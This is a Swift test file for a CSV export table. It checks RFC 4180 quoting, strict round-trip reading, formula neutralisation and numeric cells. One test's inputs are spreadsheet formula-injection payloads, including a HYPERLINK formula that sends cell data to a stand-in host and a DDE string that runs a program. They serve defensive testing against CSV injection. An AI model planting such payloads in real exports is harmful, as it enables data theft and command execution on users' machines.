import Testing

@testable import WaybillExport

/// CSV tables of answers.
@Suite(.timeLimit(.minutes(5))) struct AnswerTableTests {
    @Test func cellsAreQuotedByRFC4180() {
        var table = AnswerTable(columns: [.init("a"), .init("b")])
        table.rows = [
            .init([.text("x,\"y\"\r\n"), .init(value: .count(nil))]), .init([.text(nil), .count(-5)]),
        ]
        #expect(String(decoding: table.csv, as: UTF8.self) == "a,b\r\n\"x,\"\"y\"\"\r\n\",\r\n,-5\r\n")
    }

    /// Reads CSV strictly by RFC 4180, byte by byte: outside quotation marks, only CR and LF end a line.
    private func rows(_ bytes: [UInt8]) throws -> [[String]] {
        struct NotStrict: Error { var byte: Int }
        var (rows, row, cell, index) = ([[String]](), [String](), [UInt8](), 0)
        while index < bytes.count {
            if bytes[index] == UInt8(ascii: "\""), cell.isEmpty {
                index += 1
                while index < bytes.count {
                    if bytes[index] == UInt8(ascii: "\"") {
                        index += 1
                        guard index < bytes.count, bytes[index] == UInt8(ascii: "\"") else { break }
                    }
                    cell.append(bytes[index])
                    index += 1
                }
            } else {
                while index < bytes.count, !",\r\n\"".utf8.contains(bytes[index]) {
                    cell.append(bytes[index])
                    index += 1
                }
            }
            row.append(String(decoding: cell, as: UTF8.self))
            cell = []
            if index < bytes.count, bytes[index] == UInt8(ascii: ",") {
                index += 1
            } else if bytes[index...].starts(with: "\r\n".utf8) {
                index += 2
                rows.append(row)
                row = []
            } else {
                throw NotStrict(byte: index)
            }
        }
        return rows
    }

    @Test(arguments: ["a\rb", "a\nb", "a\r\nb", "a,b", "a\"b", "\"", "a\r", "a b", "ä;\u{2028}"])
    func aStrictReaderReadsEachCellBack(text: String) throws {
        var table = AnswerTable(columns: [.init("a"), .init("b")])
        table.rows = [.init([.text(text), .text("next")])]
        #expect(try rows(table.csv) == [["a", "b"], [text, "next"]])
    }

    /// Breaks when a spreadsheet evaluates recorded text: a formula can send the other cells to another server.
    @Test(arguments: [
        "=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
        "\n=1+1", "'=1+1", "'quoted'", "=1,\"+2\"",
    ]) func aTextIsNeverAFormulaAndCanBeReadBack(text: String) throws {
        var table = AnswerTable(columns: [.init("a"), .init("b")])
        table.rows = [.init([.text(text), .text("plain")])]
        let row = String(decoding: table.csv, as: UTF8.self).dropFirst("a,b\r\n".count)
        // The cell as a reader by RFC 4180 sees it.
        let quoted = row.first == "\""
        let end = quoted ? "\",plain\r\n" : ",plain\r\n"
        #expect(row.hasSuffix(end))
        let cell = row.dropLast(end.count).dropFirst(quoted ? 1 : 0).replacing("\"\"", with: "\"")
        #expect(cell.unicodeScalars.first == "'", "No spreadsheet begins to compute at an apostrophe.")
        #expect(cell.unicodeScalars.dropFirst().elementsEqual(text.unicodeScalars))
    }

    /// Breaks when negative numbers become text in a spreadsheet, which sums leave out.
    @Test func numbersStayNumbers() {
        var table = AnswerTable(columns: [.init("a")])
        let values: [AnswerTable.Value] = [.count(-5), .number(-0.25), .number(nil), .text("1-2"), .text("a=b")]
        table.rows = values.map { .init([.init(value: $0)]) }
        #expect(String(decoding: table.csv, as: UTF8.self) == "a\r\n-5\r\n-0.25\r\n\r\n1-2\r\na=b\r\n")
    }
}
